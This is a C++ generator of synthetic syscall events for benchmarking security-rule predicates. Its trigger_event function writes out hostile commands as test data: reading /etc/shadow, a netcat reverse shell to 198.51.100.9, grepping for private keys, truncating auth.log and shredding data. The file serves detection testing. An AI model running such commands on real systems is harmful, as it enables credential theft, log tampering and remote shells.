// Generator::realistic: the documented busy-node mix of the predicates benchmark
// (synthetic_events.h).
#include "bench/synthetic_detail.h"

#include <algorithm>
#include <cstring>
#include <map>
#include <memory>
#include <utility>

namespace saker::synth {

using namespace detail;

// ---- realistic mode ----------------------------------------------------------------------

namespace {

// Field ids the realistic generator fills, resolved once.
struct Ids {
    uint16_t evt_num = id_of("evt.num"), evt_dir = id_of("evt.dir"), evt_res = id_of("evt.res"),
             evt_rawres = id_of("evt.rawres"), evt_failed = id_of("evt.failed"),
             evt_arg = id_of("evt.arg"), is_open_read = id_of("evt.is_open_read"),
             is_open_write = id_of("evt.is_open_write"), is_open_exec = id_of("evt.is_open_exec"),
             is_open_create = id_of("evt.is_open_create");
    uint16_t proc_name = id_of("proc.name"), proc_exe = id_of("proc.exe"),
             proc_exepath = id_of("proc.exepath"), proc_cmdline = id_of("proc.cmdline"),
             proc_args = id_of("proc.args"), proc_pname = id_of("proc.pname"),
             proc_pexe = id_of("proc.pexe"), proc_pexepath = id_of("proc.pexepath"),
             proc_pcmdline = id_of("proc.pcmdline"), proc_aname = id_of("proc.aname"),
             proc_apid = id_of("proc.apid"), proc_aexepath = id_of("proc.aexepath"),
             proc_pid = id_of("proc.pid"), proc_ppid = id_of("proc.ppid"),
             proc_cwd = id_of("proc.cwd"), proc_tty = id_of("proc.tty"),
             proc_duration = id_of("proc.duration"), proc_sname = id_of("proc.sname"),
             proc_upper = id_of("proc.is_exe_upper_layer"),
             proc_memfd = id_of("proc.is_exe_from_memfd"),
             proc_writable = id_of("proc.is_exe_writable");
    uint16_t user_name = id_of("user.name"), user_uid = id_of("user.uid"),
             user_loginuid = id_of("user.loginuid"), group_gid = id_of("group.gid"),
             cap_effective = id_of("thread.cap_effective");
    uint16_t fd_num = id_of("fd.num"), fd_type = id_of("fd.type"),
             fd_typechar = id_of("fd.typechar"), fd_name = id_of("fd.name"),
             fd_nameraw = id_of("fd.nameraw"), fd_directory = id_of("fd.directory"),
             fd_filename = id_of("fd.filename"), fd_ip = id_of("fd.ip"), fd_cip = id_of("fd.cip"),
             fd_sip = id_of("fd.sip"), fd_lip = id_of("fd.lip"), fd_rip = id_of("fd.rip"),
             fd_port = id_of("fd.port"), fd_cport = id_of("fd.cport"), fd_sport = id_of("fd.sport"),
             fd_lport = id_of("fd.lport"), fd_rport = id_of("fd.rport"),
             fd_l4proto = id_of("fd.l4proto"), fd_sockfamily = id_of("fd.sockfamily"),
             fd_is_server = id_of("fd.is_server"), fd_net = id_of("fd.net"),
             fd_snet = id_of("fd.snet"), fd_cnet = id_of("fd.cnet"),
             fd_connected = id_of("fd.connected"), fd_name_changed = id_of("fd.name_changed"),
             fd_sip_name = id_of("fd.sip.name");
    uint16_t container_id = id_of("container.id"), container_name = id_of("container.name"),
             container_image = id_of("container.image"),
             container_repo = id_of("container.image.repository"),
             container_privileged = id_of("container.privileged"), k8s_ns = id_of("k8s.ns.name"),
             k8s_pod = id_of("k8s.pod.name");
};

const Ids& F() {
    static const Ids ids;
    return ids;
}

struct Container {
    std::string id, name, image, repo, ns, pod;
};

struct Proc {
    std::string name, exepath, cmdline, args, cwd, user;
    int64_t pid = 0, uid = 0, tty = 0, start_ns = 0;
    int container = -1; // index, -1: host
    std::string caps;
    std::vector<const Proc*> parents; // parent first
};

std::string args_of(const std::string& cmdline) {
    size_t sp = cmdline.find(' ');
    return sp == std::string::npos ? std::string() : cmdline.substr(sp + 1);
}

std::string base_name(std::string_view p) {
    size_t s = p.rfind('/');
    return std::string(s == std::string_view::npos ? p : p.substr(s + 1));
}

std::string dir_name(std::string_view p) {
    size_t s = p.rfind('/');
    if (s == std::string_view::npos) return ".";
    return s == 0 ? "/" : std::string(p.substr(0, s));
}

const char* const kRootCaps = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID "
                              "CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_ADMIN";

} // namespace

struct RealisticImpl {
    explicit RealisticImpl(Generator& gen) : g(gen) {}
    Generator& g;
    Rng r{g.rng_};

    // The process table: built once per generator, deterministic from the seed.
    struct World {
        std::vector<Container> containers;
        std::vector<std::unique_ptr<Proc>> procs; // hot first
        std::vector<const Proc*> exec_parents;    // shells and daemons that exec children
    };
    static std::unique_ptr<World> build(Generator& g) {
        auto w = std::make_unique<World>();
        Rng r{g.rng_};
        w->containers = {
            {"3ad7c2e4f1b9", "web-7d9f", "docker.io/library/nginx:1.25", "docker.io/library/nginx",
             "default", "web-7d9f8c-x2k4p"},
            {"91be04c7d2aa", "api-5c6b", "ghcr.io/acme/api:2.4.1", "ghcr.io/acme/api", "prod",
             "api-5c6b9-qq8rt"},
            {"c0ffee123456", "redis-0", "docker.io/library/redis:7", "docker.io/library/redis",
             "prod", "redis-0"},
            {"5e5e5e5e0a0a", "worker-1", "python:3.12-slim", "python", "batch",
             "worker-86d4-lm2vx"},
        };
        auto add = [&](std::string exepath, std::string cmdline, std::string user, int64_t uid,
                       std::vector<const Proc*> parents, int container = -1,
                       int64_t tty = 0) -> const Proc* {
            auto p = std::make_unique<Proc>();
            p->exepath = std::move(exepath);
            p->name = base_name(p->exepath).substr(0, 15);
            p->cmdline = std::move(cmdline);
            p->args = args_of(p->cmdline);
            p->user = std::move(user);
            p->uid = uid;
            p->parents = std::move(parents);
            p->container = container;
            p->tty = tty;
            p->pid = 100 + static_cast<int64_t>(w->procs.size()) * 37 +
                     static_cast<int64_t>(r.below(30));
            p->start_ns = 1'700'000'000'000'000'000 +
                          static_cast<int64_t>(r.below(1'000'000)) * 1'000'000'000;
            p->cwd = uid == 0 ? "/" : "/home/" + p->user;
            p->caps = uid == 0 ? kRootCaps : "";
            w->procs.push_back(std::move(p));
            return w->procs.back().get();
        };
        const Proc* systemd = add("/usr/lib/systemd/systemd", "systemd --system", "root", 0, {});
        const_cast<Proc*>(systemd)->pid = 1;
        const Proc* sshd = add("/usr/sbin/sshd", "sshd -D", "root", 0, {systemd});
        const Proc* sshd_s =
            add("/usr/sbin/sshd", "sshd: alice [priv]", "root", 0, {sshd, systemd});
        const Proc* bash =
            add("/usr/bin/bash", "bash", "alice", 1000, {sshd_s, sshd, systemd}, -1, 34816);
        const Proc* containerd = add("/usr/bin/containerd", "containerd", "root", 0, {systemd});
        const Proc* kubelet =
            add("/usr/bin/kubelet", "kubelet --config=/var/lib/kubelet/config.yaml", "root", 0,
                {systemd});
        const Proc* cron = add("/usr/sbin/cron", "cron -f", "root", 0, {systemd});
        const Proc* journald =
            add("/usr/lib/systemd/systemd-journald", "systemd-journald", "root", 0, {systemd});
        const Proc* nginx_host =
            add("/usr/sbin/nginx", "nginx -g daemon off;", "www-data", 33, {systemd});
        const Proc* postgres =
            add("/usr/lib/postgresql/16/bin/postgres", "postgres -D /var/lib/postgresql/16/main",
                "postgres", 112, {systemd});
        const Proc* python_cron =
            add("/usr/bin/python3", "python3 /opt/jobs/report.py", "root", 0, {cron, systemd});
        const Proc* java =
            add("/usr/bin/java", "java -Xmx2g -jar /opt/app/app.jar", "app", 1001, {systemd});
        const Proc* node = add("/usr/bin/node", "node /srv/app/server.js", "app", 1001, {systemd});
        const Proc* ssh_client =
            add("/usr/bin/ssh", "ssh git@github.com", "alice", 1000, {bash, sshd_s, sshd, systemd});
        std::vector<const Proc*> shims;
        for (int c = 0; c < 4; ++c) {
            const Proc* shim =
                add("/usr/bin/containerd-shim-runc-v2",
                    "containerd-shim-runc-v2 -namespace k8s.io -id " + w->containers[c].id, "root",
                    0, {systemd});
            shims.push_back(shim);
        }
        const Proc* c_nginx = add("/usr/sbin/nginx", "nginx: worker process", "www-data", 101,
                                  {shims[0], systemd}, 0);
        const Proc* c_api =
            add("/app/api", "/app/api --port 8080", "app", 1000, {shims[1], systemd}, 1);
        const Proc* c_redis = add("/usr/local/bin/redis-server", "redis-server *:6379", "redis",
                                  999, {shims[2], systemd}, 2);
        const Proc* c_py = add("/usr/local/bin/python3", "python3 worker.py --queue jobs", "root",
                               0, {shims[3], systemd}, 3);
        const Proc* c_sh =
            add("/bin/sh", "sh -c python3 worker.py", "root", 0, {shims[3], systemd}, 3);
        (void)c_sh;
        // Hot processes first: events pick low indexes more often.
        std::vector<const Proc*> hot = {c_nginx,    c_api,      node,        java,     postgres,
                                        c_redis,    kubelet,    containerd,  journald, c_py,
                                        bash,       nginx_host, python_cron, sshd,     cron,
                                        ssh_client, systemd,    sshd_s};
        std::vector<std::unique_ptr<Proc>> ordered;
        for (const Proc* p : hot)
            for (auto& up : w->procs)
                if (up.get() == p) ordered.push_back(std::move(up));
        for (auto& up : w->procs)
            if (up) ordered.push_back(std::move(up));
        w->procs = std::move(ordered);
        w->exec_parents = {bash,       bash,    bash, cron, python_cron, kubelet,
                           containerd, systemd, c_sh, c_py, java,        node};
        return w;
    }

    World& w = *static_cast<World*>(g.world_.get());
    const Ids& f = F();

    const Proc& pick_proc() {
        double u = unit(g.rng_);
        size_t i = static_cast<size_t>(u * u * static_cast<double>(w.procs.size()));
        return *w.procs[std::min(i, w.procs.size() - 1)];
    }

    void set_arg(SyntheticEvent& e, const char* key, std::string_view v) {
        std::string k(key);
        e.set_str(f.evt_arg, v, &k);
    }

    // Fields every event carries: the process, its ancestry, user, container.
    void common(SyntheticEvent& e, const Proc& p) {
        e.set_int(f.evt_num, static_cast<int64_t>(++g.evt_num_));
        e.set_str(f.evt_dir, "<");
        e.set_str(f.proc_name, p.name);
        e.set_str(f.proc_exe, p.exepath);
        e.set_str(f.proc_exepath, p.exepath);
        e.set_str(f.proc_cmdline, p.cmdline);
        e.set_str(f.proc_args, p.args);
        e.set_int(f.proc_pid, p.pid);
        e.set_str(f.proc_cwd, p.cwd);
        e.set_int(f.proc_tty, p.tty);
        e.set_int(f.proc_duration,
                  5'000'000'000LL + static_cast<int64_t>(r.below(1000)) * 1'000'000'000LL);
        e.set_int(f.proc_upper, 0);
        e.set_int(f.proc_memfd, 0);
        e.set_int(f.proc_writable, 0);
        e.set_str(f.user_name, p.user);
        e.set_int(f.user_uid, p.uid);
        e.set_int(f.user_loginuid, p.tty ? p.uid : -1);
        e.set_int(f.group_gid, p.uid);
        e.set_str(f.cap_effective, p.caps);
        if (!p.parents.empty()) {
            const Proc& pp = *p.parents[0];
            e.set_str(f.proc_pname, pp.name);
            e.set_str(f.proc_pexe, pp.exepath);
            e.set_str(f.proc_pexepath, pp.exepath);
            e.set_str(f.proc_pcmdline, pp.cmdline);
            e.set_int(f.proc_ppid, pp.pid);
        }
        set_ancestors(e, p.parents);
        container(e, p.container);
    }

    void set_ancestors(SyntheticEvent& e, const std::vector<const Proc*>& parents) {
        std::vector<std::string> names, paths;
        std::vector<int64_t> pids;
        for (const Proc* a : parents) {
            names.push_back(a->name);
            paths.push_back(a->exepath);
            pids.push_back(a->pid);
        }
        e.set_str_list(f.proc_aname, names);
        e.set_str_list(f.proc_aexepath, paths);
        e.set_int_list(f.proc_apid, pids);
    }

    void container(SyntheticEvent& e, int c) {
        if (c < 0) {
            e.set_str(f.container_id, "host");
            e.set_str(f.container_name, "host");
            e.set_int(f.container_privileged, 0);
            return;
        }
        const Container& k = w.containers[static_cast<size_t>(c)];
        e.set_str(f.container_id, k.id);
        e.set_str(f.container_name, k.name);
        e.set_str(f.container_image, k.image);
        e.set_str(f.container_repo, k.repo);
        e.set_int(f.container_privileged, 0);
        e.set_str(f.k8s_ns, k.ns);
        e.set_str(f.k8s_pod, k.pod);
    }

    void result(SyntheticEvent& e, int64_t rawres) {
        static const std::pair<int64_t, const char*> kErr[] = {
            {-2, "ENOENT"},        {-13, "EACCES"},        {-11, "EAGAIN"},
            {-115, "EINPROGRESS"}, {-111, "ECONNREFUSED"}, {-1, "EPERM"}};
        e.set_int(f.evt_rawres, rawres);
        e.set_int(f.evt_failed, rawres < 0);
        const char* name = "SUCCESS";
        for (auto& [v, n] : kErr)
            if (v == rawres) name = n;
        e.set_str(f.evt_res, name);
    }

    void file_fd(SyntheticEvent& e, const std::string& path, int64_t fdnum) {
        e.set_int(f.fd_num, fdnum);
        e.set_str(f.fd_type, "file");
        e.set_str(f.fd_typechar, "f");
        e.set_str(f.fd_name, path);
        e.set_str(f.fd_nameraw, path);
        e.set_str(f.fd_directory, dir_name(path));
        e.set_str(f.fd_filename, base_name(path));
    }

    std::string path_for(const Proc& p, bool write) {
        static const char* kEtc[] = {"/etc/ld.so.cache",
                                     "/etc/passwd",
                                     "/etc/group",
                                     "/etc/hosts",
                                     "/etc/resolv.conf",
                                     "/etc/nsswitch.conf",
                                     "/etc/localtime",
                                     "/etc/os-release",
                                     "/etc/ssl/certs/ca-certificates.crt",
                                     "/etc/nginx/nginx.conf",
                                     "/etc/host.conf",
                                     "/etc/gai.conf"};
        static const char* kLib[] = {"/usr/lib/x86_64-linux-gnu/libc.so.6",
                                     "/usr/lib/x86_64-linux-gnu/libssl.so.3",
                                     "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
                                     "/usr/lib/x86_64-linux-gnu/libz.so.1",
                                     "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
                                     "/usr/lib/python3.12/os.py",
                                     "/usr/lib/locale/locale-archive",
                                     "/usr/lib/jvm/java-17/lib/modules",
                                     "/usr/share/zoneinfo/UTC"};
        static const char* kProc[] = {"stat", "status", "cgroup", "cmdline", "maps", "fd"};
        static const char* kTmp[] = {"/tmp/tmp", "/tmp/.X11-unix/X", "/tmp/pip-build-",
                                     "/var/tmp/systemd-private-"};
        if (write) {
            switch (r.below(4)) {
            case 0:
                return std::string(kTmp[r.below(4)]) + std::to_string(r.below(100000));
            case 1:
                return "/home/alice/project/build/obj" + std::to_string(r.below(500)) + ".o";
            case 2:
                return r.chance(0.5) ? "/var/log/nginx/access.log" : "/var/log/syslog";
            default:
                return "/var/lib/postgresql/16/main/base/16384/" +
                       std::to_string(2600 + r.below(200));
            }
        }
        switch (r.below(10)) {
        case 0:
        case 1:
        case 2:
            return kEtc[r.below(std::size(kEtc))];
        case 3:
        case 4:
        case 5:
            return kLib[r.below(std::size(kLib))];
        case 6:
            if (r.chance(0.3)) return r.chance(0.5) ? "/proc/meminfo" : "/proc/loadavg";
            return "/proc/" + std::to_string(p.pid) + "/" + kProc[r.below(std::size(kProc))];
        case 7:
            return std::string(kTmp[r.below(4)]) + std::to_string(r.below(100000));
        case 8:
            return r.chance(0.5)
                       ? "/home/alice/.bashrc"
                       : "/home/alice/project/src/file" + std::to_string(r.below(300)) + ".c";
        default:
            return r.chance(0.5) ? "/dev/null" : "/dev/urandom";
        }
    }

    void open_event(SyntheticEvent& e) {
        static const char* kOpen[] = {"openat", "openat", "openat", "openat", "open", "openat2"};
        e.set_type(event_type_id_of(kOpen[r.below(std::size(kOpen))]));
        const Proc& p = pick_proc();
        common(e, p);
        bool write = r.chance(0.2);
        std::string path = path_for(p, write);
        bool fail = r.chance(0.05);
        int64_t fdnum = fail ? -1 : 3 + static_cast<int64_t>(r.below(60));
        file_fd(e, path, fdnum);
        e.set_int(f.is_open_read, !write);
        e.set_int(f.is_open_write, write);
        e.set_int(f.is_open_exec, 0);
        bool create = write && !path.starts_with("/var/log");
        e.set_int(f.is_open_create, create);
        std::string flags = write ? (create ? (r.chance(0.5) ? "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"
                                                             : "O_RDWR|O_CREAT|O_CLOEXEC")
                                            : "O_WRONLY|O_APPEND|O_CLOEXEC")
                                  : "O_RDONLY|O_CLOEXEC";
        set_arg(e, "flags", flags);
        set_arg(e, "name", path);
        result(e, fail ? (r.chance(0.7) ? -2 : -13) : fdnum);
    }

    // The image a process execs, with its parent.
    void exec_event(SyntheticEvent& e) {
        static const char* kBins[][2] = {
            {"/usr/bin/ls", "ls -la"},
            {"/usr/bin/cat", "cat /etc/os-release"},
            {"/usr/bin/grep", "grep -r TODO src"},
            {"/usr/bin/ps", "ps aux"},
            {"/usr/bin/sed", "sed -n 1,20p config.yaml"},
            {"/usr/bin/awk", "awk {print $1}"},
            {"/usr/bin/python3", "python3 manage.py migrate"},
            {"/usr/bin/curl", "curl -s http://localhost:8080/healthz"},
            {"/usr/bin/git", "git status"},
            {"/usr/bin/date", "date +%s"},
            {"/usr/bin/id", "id -u"},
            {"/usr/bin/uname", "uname -r"},
            {"/usr/bin/sleep", "sleep 5"},
            {"/usr/bin/find", "find . -name *.log"},
            {"/usr/bin/tar", "tar czf backup.tgz data"},
            {"/usr/bin/systemctl", "systemctl is-active nginx"},
            {"/usr/bin/kubectl", "kubectl get pods"},
            {"/usr/bin/head", "head -n 5 /var/log/syslog"},
            {"/usr/bin/sh", "sh -c /usr/local/bin/healthcheck"},
            {"/usr/bin/bash", "bash /opt/jobs/rotate.sh"},
            {"/usr/sbin/iptables", "iptables -L -n"},
            {"/usr/bin/ssh", "ssh deploy@10.0.3.4"},
        };
        e.set_type(event_type_id_of(r.chance(0.95) ? "execve" : "execveat"));
        const Proc& parent = *w.exec_parents[r.below(w.exec_parents.size())];
        Proc child;
        const auto& b = kBins[r.below(std::size(kBins))];
        child.exepath = b[0];
        child.name = base_name(child.exepath);
        child.cmdline = b[1];
        child.args = args_of(child.cmdline);
        child.user = parent.user;
        child.uid = parent.uid;
        child.cwd = parent.cwd;
        child.tty = parent.tty;
        child.caps = parent.caps;
        child.container = parent.container;
        child.pid = 20000 + static_cast<int64_t>(r.below(40000));
        child.parents.push_back(&parent);
        child.parents.insert(child.parents.end(), parent.parents.begin(), parent.parents.end());
        common(e, child);
        e.set_int(f.proc_duration, static_cast<int64_t>(r.below(2'000'000)));
        result(e, 0);
    }

    static void net_fields(SyntheticEvent& e, const Ids& f, bool v6, bool udp, const Ip16& cip,
                           int64_t cport, const Ip16& sip, int64_t sport, bool server) {
        e.set_str(f.fd_type, v6 ? "ipv6" : "ipv4");
        e.set_str(f.fd_typechar, v6 ? "6" : "4");
        e.set_str(f.fd_sockfamily, v6 ? "ip" : "ip");
        e.set_str(f.fd_l4proto, udp ? "udp" : "tcp");
        e.set_ip(f.fd_cip, cip.data());
        e.set_ip(f.fd_sip, sip.data());
        e.set_ip(f.fd_ip, sip.data());
        e.set_ip(f.fd_net, sip.data());
        e.set_ip(f.fd_snet, sip.data());
        e.set_ip(f.fd_cnet, cip.data());
        e.set_ip(f.fd_lip, server ? sip.data() : cip.data());
        e.set_ip(f.fd_rip, server ? cip.data() : sip.data());
        e.set_int(f.fd_cport, cport);
        e.set_int(f.fd_sport, sport);
        e.set_int(f.fd_port, sport);
        e.set_int(f.fd_lport, server ? sport : cport);
        e.set_int(f.fd_rport, server ? cport : sport);
        e.set_int(f.fd_is_server, server);
        e.set_int(f.fd_connected, 1);
        e.set_int(f.fd_name_changed, 0);
        e.set_str(f.fd_name, ip_text(cip.data()) + ":" + std::to_string(cport) + "->" +
                                 ip_text(sip.data()) + ":" + std::to_string(sport));
    }

    void net_event(SyntheticEvent& e) {
        static const int64_t kPorts[] = {53, 80, 443, 5432, 6379, 8080, 22, 9090, 3306, 10250};
        bool accept = r.chance(0.35);
        e.set_type(event_type_id_of(accept ? (r.chance(0.5) ? "accept" : "accept4") : "connect"));
        const Proc& p = pick_proc();
        common(e, p);
        bool is6 = r.chance(0.1);
        Ip16 local = is6 ? v6({0xfd00, 0, 0, 0, 0, 0, 0, 0x10}) : v4(10, 0, 1, 7);
        Ip16 remote;
        switch (r.below(5)) {
        case 0:
            remote = is6 ? v6({0, 0, 0, 0, 0, 0, 0, 1}) : v4(127, 0, 0, 1);
            break;
        case 1:
            remote =
                v4(10, 0, static_cast<uint8_t>(r.below(8)), static_cast<uint8_t>(r.below(250) + 1));
            break;
        case 2:
            remote = v4(172, 16, static_cast<uint8_t>(r.below(32)),
                        static_cast<uint8_t>(r.below(250) + 1));
            break;
        case 3:
            remote = v4(192, 168, 1, static_cast<uint8_t>(r.below(250) + 1));
            break;
        default:
            remote = is6 ? v6({0x2606, 0x4700, 0, 0, 0, 0, 0, 0x1111})
                         : v4(140, 82, 112, static_cast<uint8_t>(r.below(8)));
        }
        if (is6 && remote[10] == 0xff) remote = v6({0, 0, 0, 0, 0, 0, 0, 1});
        int64_t port = kPorts[r.below(std::size(kPorts))];
        if (p.name == "ssh") port = 22;
        int64_t eph = 32768 + static_cast<int64_t>(r.below(28000));
        bool udp = port == 53;
        if (accept)
            net_fields(e, f, is6, false, remote, eph, local, port, true);
        else
            net_fields(e, f, is6, udp, local, eph, remote, port, false);
        int64_t fdnum = 3 + static_cast<int64_t>(r.below(200));
        e.set_int(f.fd_num, fdnum);
        int64_t res = accept ? fdnum : (r.chance(0.2) ? -115 : 0);
        if (r.chance(0.03)) res = -111;
        result(e, res);
    }

    void close_event(SyntheticEvent& e) {
        e.set_type(event_type_id_of("close"));
        const Proc& p = pick_proc();
        common(e, p);
        int64_t fdnum = 3 + static_cast<int64_t>(r.below(60));
        if (r.chance(0.7)) {
            file_fd(e, path_for(p, r.chance(0.2)), fdnum);
        } else {
            e.set_int(f.fd_num, fdnum);
            e.set_str(f.fd_type, r.chance(0.5) ? "pipe" : "unix");
            e.set_str(f.fd_typechar, r.chance(0.5) ? "p" : "u");
            e.set_str(f.fd_name, "pipe:[" + std::to_string(100000 + r.below(900000)) + "]");
        }
        result(e, 0);
    }

    void clone_event(SyntheticEvent& e) {
        static const char* kClone[] = {"clone", "clone", "clone3", "fork", "vfork"};
        e.set_type(event_type_id_of(kClone[r.below(std::size(kClone))]));
        const Proc& p = pick_proc();
        common(e, p);
        set_arg(e, "flags",
                r.chance(0.6) ? "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|"
                                "CLONE_THREAD|CLONE_SYSVSEM"
                              : "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID");
        result(e, 20000 + static_cast<int64_t>(r.below(40000)));
    }

    void other_event(SyntheticEvent& e) {
        static const char* kOther[] = {
            "setns",    "unshare", "ptrace",   "mmap",   "mmap",        "mmap",      "chmod",
            "fchmodat", "unlink",  "unlinkat", "rename", "renameat2",   "symlinkat", "linkat",
            "dup2",     "socket",  "socket",   "sendto", "init_module", "mkdir"};
        std::string_view t = kOther[r.below(std::size(kOther))];
        e.set_type(event_type_id_of(t));
        const Proc& p = pick_proc();
        common(e, p);
        int64_t res = 0;
        if (t == "setns") {
            set_arg(e, "nstype", "CLONE_NEWNET");
        } else if (t == "unshare") {
            set_arg(e, "flags", "CLONE_NEWNS|CLONE_NEWUTS");
        } else if (t == "ptrace") {
            static const char* kReq[] = {"PTRACE_PEEKDATA", "PTRACE_GETREGS", "PTRACE_CONT",
                                         "PTRACE_GETSIGINFO"};
            set_arg(e, "request", kReq[r.below(4)]);
        } else if (t == "mmap") {
            set_arg(e, "prot", r.chance(0.3) ? "PROT_READ|PROT_EXEC" : "PROT_READ|PROT_WRITE");
            set_arg(e, "flags", "MAP_PRIVATE|MAP_ANONYMOUS");
            res = 0x7f0000000000 + static_cast<int64_t>(r.below(1 << 20)) * 4096;
        } else if (t == "chmod" || t == "fchmodat") {
            std::string path = path_for(p, true);
            set_arg(e, t == "chmod" ? "filename" : "filename", path);
            set_arg(e, "mode", "0644");
        } else if (t == "unlink" || t == "unlinkat") {
            set_arg(e, t == "unlink" ? "path" : "name", path_for(p, true));
        } else if (t == "rename" || t == "renameat2") {
            std::string from = path_for(p, true);
            set_arg(e, "oldpath", from);
            set_arg(e, "newpath", from + ".1");
        } else if (t == "symlinkat") {
            set_arg(e, "target", "/usr/lib/x86_64-linux-gnu/libfoo.so.1.2");
            set_arg(e, "linkpath", "/usr/lib/x86_64-linux-gnu/libfoo.so.1");
        } else if (t == "linkat") {
            set_arg(e, "oldpath", "/home/alice/project/a.txt");
            set_arg(e, "newpath", "/home/alice/project/b.txt");
        } else if (t == "dup2") {
            int64_t fdnum = 3 + static_cast<int64_t>(r.below(20));
            e.set_int(f.fd_num, fdnum);
            e.set_str(f.fd_type, "pipe");
            e.set_str(f.fd_typechar, "p");
            res = static_cast<int64_t>(r.below(3));
        } else if (t == "socket") {
            static const char* kDom[] = {"AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK"};
            set_arg(e, "domain", kDom[r.below(4)]);
            set_arg(e, "type", "SOCK_STREAM");
            res = 3 + static_cast<int64_t>(r.below(100));
        } else if (t == "sendto") {
            net_fields(e, f, false, true, v4(10, 0, 1, 7), 40000, v4(10, 96, 0, 10), 53, false);
        } else if (t == "init_module") {
            // host only (modprobe by systemd-modules-load)
        } else if (t == "mkdir") {
            set_arg(e, "path", "/tmp/build-" + std::to_string(r.below(1000)));
        }
        result(e, res);
    }

    // ~1% of events: built to trigger a well-known upstream rule.
    void trigger_event(SyntheticEvent& e) {
        ++g.triggers_;
        const Proc& bash = *w.exec_parents[0];
        auto exec_as = [&](const char* exepath, const char* cmdline, const Proc& parent,
                           int container, int64_t tty) {
            e.set_type(event_type_id_of("execve"));
            Proc c;
            c.exepath = exepath;
            c.name = base_name(c.exepath);
            c.cmdline = cmdline;
            c.args = args_of(c.cmdline);
            c.user = container >= 0 ? "root" : parent.user;
            c.uid = container >= 0 ? 0 : parent.uid;
            c.cwd = parent.cwd;
            c.tty = tty;
            c.caps = c.uid == 0 ? kRootCaps : "";
            c.container = container;
            c.pid = 60000 + static_cast<int64_t>(r.below(1000));
            c.parents.push_back(&parent);
            c.parents.insert(c.parents.end(), parent.parents.begin(), parent.parents.end());
            common(e, c);
            e.set_int(f.proc_duration, 1000);
            result(e, 0);
        };
        auto find_proc = [&](std::string_view name, int container) -> const Proc& {
            for (auto& p : w.procs)
                if (p->name == name && p->container == container) return *p;
            return *w.procs[0];
        };
        switch (r.below(13)) {
        case 0: { // Read sensitive file untrusted: cat /etc/shadow
            Proc c = bash;
            c.name = "cat";
            c.exepath = "/usr/bin/cat";
            c.cmdline = "cat /etc/shadow";
            c.args = "/etc/shadow";
            c.parents.insert(c.parents.begin(), &bash);
            e.set_type(event_type_id_of("openat"));
            common(e, c);
            file_fd(e, "/etc/shadow", 3);
            e.set_int(f.is_open_read, 1);
            e.set_int(f.is_open_write, 0);
            set_arg(e, "flags", "O_RDONLY");
            result(e, 3);
            break;
        }
        case 1: // Run shell untrusted: a shell spawned by nginx
            exec_as("/bin/bash", "bash -i", find_proc("nginx", -1), -1, 0);
            break;
        case 2: // Terminal shell in container
            exec_as("/bin/sh", "sh", find_proc("containerd-shim", -1), 1, 34817);
            break;
        case 3: // Search Private Keys or Passwords
            exec_as("/usr/bin/grep", "grep -r \"BEGIN RSA PRIVATE\" /home", bash, -1, 34816);
            break;
        case 4: { // Clear Log Activities
            e.set_type(event_type_id_of("openat"));
            common(e, find_proc("bash", -1));
            file_fd(e, "/var/log/auth.log", 4);
            e.set_int(f.is_open_read, 0);
            e.set_int(f.is_open_write, 1);
            set_arg(e, "flags", "O_WRONLY|O_TRUNC");
            result(e, 4);
            break;
        }
        case 5: { // Disallowed SSH Connection Non Standard Port
            e.set_type(event_type_id_of("connect"));
            common(e, find_proc("ssh", -1));
            net_fields(e, f, false, false, v4(10, 0, 1, 7), 51000, v4(203, 0, 113, 7), 443, false);
            e.set_int(f.fd_num, 3);
            result(e, 0);
            break;
        }
        case 6: { // PTRACE attached to process
            e.set_type(event_type_id_of("ptrace"));
            Proc c = bash;
            c.name = "gdb";
            c.exepath = "/usr/bin/gdb";
            c.cmdline = "gdb -p 1234";
            c.parents.insert(c.parents.begin(), &bash);
            common(e, c);
            set_arg(e, "request", r.chance(0.5) ? "PTRACE_ATTACH" : "PTRACE_TRACEME");
            result(e, 0);
            break;
        }
        case 7: // Execution from /dev/shm
            exec_as("/dev/shm/.x", "/dev/shm/.x -d", bash, -1, 34816);
            break;
        case 8: // Fileless execution via memfd_create
            exec_as("memfd:payload", "payload", bash, -1, 34816);
            e.set_int(f.proc_memfd, 1);
            break;
        case 9: // Remove Bulk Data from Disk
            exec_as("/usr/bin/shred", "shred -u /home/alice/data.db", bash, -1, 34816);
            break;
        case 10: { // Create Symlink Over Sensitive Files
            e.set_type(event_type_id_of("symlinkat"));
            common(e, bash);
            set_arg(e, "target", "/etc/shadow");
            set_arg(e, "linkpath", "/tmp/s");
            result(e, 0);
            break;
        }
        case 11: { // Packet socket created in container
            e.set_type(event_type_id_of("socket"));
            common(e, find_proc("python3", 3));
            set_arg(e, "domain", "AF_PACKET");
            result(e, 5);
            break;
        }
        default: { // Netcat Remote Code Execution in Container
            exec_as("/usr/bin/nc", "nc -e /bin/sh 198.51.100.9 4444", find_proc("sh", 3), 3, 0);
            break;
        }
        }
    }

    static uint32_t event_type_id_of(std::string_view name) {
        auto types = known_event_types();
        auto it = std::lower_bound(types.begin(), types.end(), name);
        if (it == types.end() || *it != name)
            throw std::logic_error("synthetic events: unknown event type " + std::string(name));
        return static_cast<uint32_t>(it - types.begin());
    }

    SyntheticEvent next() {
        SyntheticEvent e;
        if (r.chance(Generator::kTriggerShare)) {
            trigger_event(e);
            return e;
        }
        double u = unit(g.rng_);
        if (u < 0.45)
            open_event(e);
        else if (u < 0.60)
            exec_event(e);
        else if (u < 0.70)
            net_event(e);
        else if (u < 0.80)
            close_event(e);
        else if (u < 0.90)
            clone_event(e);
        else
            other_event(e);
        return e;
    }
};

Generator Generator::realistic(uint64_t seed) {
    Generator g(Mode::Realistic, seed);
    g.world_ = std::shared_ptr<RealisticImpl::World>(RealisticImpl::build(g));
    return g;
}

SyntheticEvent Generator::next_realistic() {
    return RealisticImpl(*this).next();
}

} // namespace saker::synth
